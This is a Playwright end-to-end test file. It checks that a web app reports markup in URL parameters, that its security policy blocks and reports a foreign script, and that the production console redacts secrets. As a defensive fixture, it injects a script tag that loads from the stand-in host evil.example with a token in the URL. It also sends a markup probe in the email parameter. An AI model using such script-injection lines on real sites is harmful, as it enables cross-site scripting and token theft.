import type { Request } from '@playwright/test'
import { expect, test } from '../fixtures/test.ts'

const bodyOf = (request: Request) => request.postDataJSON() as Record<string, unknown>

const addForeignScript = `
  document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js?token=abc' }))`
const printSecrets = `
  console.info('some info')
  console.debug('some debug')
  console.warn('for ana@example.org', { password: 'hunter2' })`

// spec access §5: suspicious input in the address is logged as a warning only
// spec access §7: security-audit: sent in production; failures ignored
//   in apps/web/src/app/watch-problems.ts, apps/web/src/features/client-reports/send-reports.ts
// spec access §9: in production the console is sanitized: debug and info suppressed, sensitive keys redacted
//   in apps/web/src/app/quiet-console.ts
test('the built app reports what it notices, without cookies, and keeps its console quiet', async ({
  page,
  context,
  newOwner,
  trouble,
}) => {
  trouble.allow(/evil\.example/)
  const lines: string[] = []
  page.on('console', (message) => lines.push(message.text()))
  const reported = (path: string) =>
    page.waitForResponse((answer) => answer.url().endsWith(path) && answer.status() === 200)

  await test.step('A visitor opens an address with markup', async () => {
    const [answer] = await Promise.all([reported('/api/client-errors'), page.goto('/auth?email=%3Cb%3Eana')])
    expect(bodyOf(answer.request())).toMatchObject({
      severity: 'warning',
      component: 'address',
      metadata: { parameters: 'email', page: '/auth' },
    })
  })

  await test.step('The browser refuses a script of another site, on the page of a signed-in person', async () => {
    const owner = await newOwner()
    await owner.enter(context)
    await page.goto('/pets?tab=health')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const [answer] = await Promise.all([reported('/api/security-audit'), page.evaluate(addForeignScript)])
    const report = bodyOf(answer.request())
    expect(Object.keys(report).toSorted()).toEqual(['details', 'timestamp', 'type', 'url', 'userAgent'])
    expect(report['details']).toMatchObject({ blocked: 'https://evil.example/x.js' })
    expect(String(report['url'])).toMatch(/\/pets$/)
    expect(await answer.request().headerValue('cookie')).toBeNull()
  })

  await test.step('The console shows neither debug nor info, and no secrets', async () => {
    await page.evaluate(printSecrets)
    await expect.poll(() => lines.at(-1)).toContain('for [email]')
    expect(lines.join('\n')).not.toMatch(/some info|some debug|hunter2|ana@example/)
  })
})
